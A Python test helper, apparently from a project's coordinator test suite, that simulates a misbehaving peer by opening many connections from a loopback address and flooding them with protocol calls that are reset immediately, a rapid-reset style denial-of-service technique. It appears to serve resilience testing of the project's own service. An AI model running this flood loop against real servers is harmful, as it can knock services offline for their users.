"""A host gone bad, as a process of its own: it begins calls and resets them, as fast as it can.

`python -m coordinator.flooding ADDRESS DIRECTORY CONNECTIONS SECONDS METHOD`; prints how many
calls it sent and how many connections it had. From an address of its own, as another machine.
"""

from collections import Counter
import contextlib
from pathlib import Path
import sys
import threading
import time

from coordinator.frames import PREFACE, SETTINGS, call, frame, opened, reset

SOURCE = "127.0.0.2"
AT_ONCE = 50


def flood(directory: Path, address: str, method: str, until: float, done: Counter[str]) -> None:
    """Connect, flood until that ends, again."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError), opened(directory, address, SOURCE) as peer:
            peer.socket.settimeout(2)
            peer.socket.sendall(PREFACE + frame(SETTINGS))
            done["connections"] += 1
            for stream in range(1, 1 << 30, 2 * AT_ONCE):
                if time.monotonic() > until:
                    break
                numbers = range(stream, stream + 2 * AT_ONCE, 2)
                peer.socket.sendall(b"".join(call(method, n) + reset(n) for n in numbers))
                done["calls"] += AT_ONCE


def main(address: str, directory: str, connections: str, seconds: str, method: str) -> None:
    done: Counter[str] = Counter()
    until = time.monotonic() + float(seconds)
    threads = [
        threading.Thread(target=flood, args=(Path(directory), address, method, until, done))
        for _ in range(int(connections))
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    sys.stdout.write(f"{done['calls']} {done['connections']}\n")


if __name__ == "__main__":
    main(*sys.argv[1:])
